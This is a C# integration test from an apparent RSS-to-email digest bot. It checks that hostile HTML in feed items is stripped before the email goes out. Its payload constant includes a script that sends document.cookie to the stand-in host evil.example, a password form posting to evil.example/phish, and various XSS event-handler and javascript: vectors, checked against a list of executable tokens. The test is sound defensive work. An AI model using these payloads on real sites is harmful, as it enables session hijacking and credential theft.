using System.Globalization;
using System.Security;
using System.Text;
using AngleSharp.Html.Parser;
using RoundupBot.Model;
using RoundupBot.Rendering;
using RoundupBot.Tests.Summarization.Embedded;
using RoundupBot.Tests.TestSupport;

namespace RoundupBot.Tests.Pipeline;

/// <summary>
/// A feed whose item HTML carries scripts, styles, event handlers, javascript: links and iframes goes the whole way: real
/// fetch over HTTP, the parser's HTML-to-text, normalization, the store, the embedded summarizer, then the email's HTML
/// and text parts. Nothing executable and none of the script or CSS text may come out the other end.
/// </summary>
public sealed class HostileFeedTests : IAsyncLifetime
{
    // Each marker sits only inside something a browser would never show as text; seeing one in the email means that
    // content leaked. "alert(" and "document.cookie" are the scripts' own words.
    private static readonly string[] Leaks =
    [
        "alert(", "document.cookie", "STYLE_CSS_LEAK", "SCRIPT_LEAK", "IFRAME_TEXT_LEAK", "SELF_CLOSED_SCRIPT_LEAK",
        "SELF_CLOSED_STYLE_LEAK", "SVG_SCRIPT_LEAK", "NOSCRIPT_LEAK", "TITLE_SCRIPT_LEAK", "evil.example",
    ];

    private const string Payload = """
        <script>new Image().src='https://evil.example/c?'+document.cookie; SCRIPT_LEAK()</script>
        <style>body{display:none} .STYLE_CSS_LEAK{color:red}</style>
        <img src="x" onerror="alert('img')">
        <p><a href="javascript:alert('link')" onclick="alert('click')" onmouseover="alert('over')">Read more</a></p>
        <iframe src="javascript:alert('frame')">IFRAME_TEXT_LEAK</iframe>
        <script/>SELF_CLOSED_SCRIPT_LEAK()</script>
        <style/>.SELF_CLOSED_STYLE_LEAK{}</style>
        <svg onload="alert('svg')"><script>SVG_SCRIPT_LEAK()</script></svg>
        <noscript><style>.NOSCRIPT_LEAK{}</style></noscript>
        <form action="https://evil.example/phish"><input name="password" onfocus="alert('focus')"></form>
        """;

    private PipelineHarness _harness = null!;

    public async Task InitializeAsync() => _harness = await PipelineHarness.StartAsync();

    public async Task DisposeAsync() => await _harness.DisposeAsync();

    [Fact]
    public async Task Script_style_handlers_and_javascript_links_in_item_HTML_never_reach_the_email()
    {
        _harness.Server.MapFile("/hostile.rss", Feed(_harness.Database.Time.GetUtcNow()));
        await _harness.Store.AddSourceAsync(new Source { Name = "Hostile blog", Url = _harness.Server.Url("/hostile.rss").AbsoluteUri }, CancellationToken.None);

        var fetched = await _harness.FetchPipeline().FetchDueAsync(null, CancellationToken.None);
        Assert.Equal(60, fetched.Items.Inserted);
        // An issue takes the items first seen before it is built.
        _harness.Database.Time.Advance(TimeSpan.FromMinutes(5));
        var outcome = await _harness.Runner().RunAsync("test", publish: false, null, CancellationToken.None);

        var digest = outcome.Digest;
        Assert.True(digest is not null, $"{outcome.NotBuiltReason} {string.Join("; ", outcome.Fetch?.Outcomes.Select(o => $"{o.Entries} entries, {o.Error}") ?? [])}");
        var html = EmailHtmlRenderer.Render(digest, SampleIssue.Links);
        var text = TextRenderer.Render(digest, SampleIssue.Links);

        // The items did arrive, with their real words: the payload went through the pipeline, not around it.
        var document = new HtmlParser().ParseDocument(html);
        var sentences = digest.Sections.SelectMany(s => s.Sentences).ToList();
        Assert.NotEmpty(sentences);
        Assert.All(sentences, s => Assert.Contains(s.Text.Trim(), document.Body!.TextContent, StringComparison.Ordinal));
        Assert.All(sentences, s => Assert.Contains(s.Text.Trim(), text, StringComparison.Ordinal));

        foreach (var leak in Leaks)
        {
            Assert.DoesNotContain(leak, html, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain(leak, text, StringComparison.OrdinalIgnoreCase);
        }

        foreach (var executable in new[] { "<script", "javascript:", "<iframe", "<svg", "<img", "<form", "<input", "onerror", "onclick", "onload", "onmouseover", "onfocus" })
        {
            Assert.DoesNotContain(executable, html, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain(executable, text, StringComparison.OrdinalIgnoreCase);
        }

        Assert.Empty(document.QuerySelectorAll("script, iframe, svg, img, form, input, object, embed"));
        Assert.Single(document.QuerySelectorAll("style"));
        Assert.DoesNotContain(document.All, e => e.Attributes.Any(a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase)));
        Assert.All(document.QuerySelectorAll("a"), a => Assert.StartsWith("https://", a.GetAttribute("href"), StringComparison.Ordinal));
    }

    /// <summary>
    /// Sixty items of the evaluation set (six research areas, so the digest has sections), the payload before, inside and
    /// after every description, half as CDATA and half entity-escaped as feeds do both, and a script in every fifth title.
    /// </summary>
    private static string Feed(DateTimeOffset now)
    {
        var rss = new StringBuilder("""<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>Hostile blog</title><link>https://blog.example.org/</link><description>Posts</description>""");
        var items = EvaluationSet.Items.Take(60).ToList();
        for (var i = 0; i < items.Count; i++)
        {
            var item = items[i];
            // Before the text and inside it, so leaked words would join the sentences the summarizer picks.
            var split = item.Summary.IndexOf(". ", StringComparison.Ordinal) + 1;
            var description = $"{Payload}<p>{SecurityElement.Escape(item.Summary[..split])} {Payload} {SecurityElement.Escape(item.Summary[split..])}</p>{Payload}";
            var title = i % 5 == 0 ? $"{item.Title}<script>TITLE_SCRIPT_LEAK()</script>" : item.Title;
            rss.Append("<item><title>").Append(SecurityElement.Escape(title)).Append("</title>")
                .Append("<link>https://blog.example.org/posts/").Append(item.Id.ToString(CultureInfo.InvariantCulture)).Append("</link>")
                .Append("<pubDate>").Append((now - TimeSpan.FromHours(i + 1)).ToString("r", CultureInfo.InvariantCulture)).Append("</pubDate>")
                .Append("<description>")
                .Append(i % 2 == 0 ? $"<![CDATA[{description}]]>" : SecurityElement.Escape(description))
                .Append("</description></item>");
        }

        // An item whose only link is javascript: has nowhere to go and is dropped.
        rss.Append("<item><title>Click me</title><link>javascript:alert('item link')</link><description>SCRIPT_LEAK</description></item>");
        return rss.Append("</channel></rss>").ToString();
    }
}
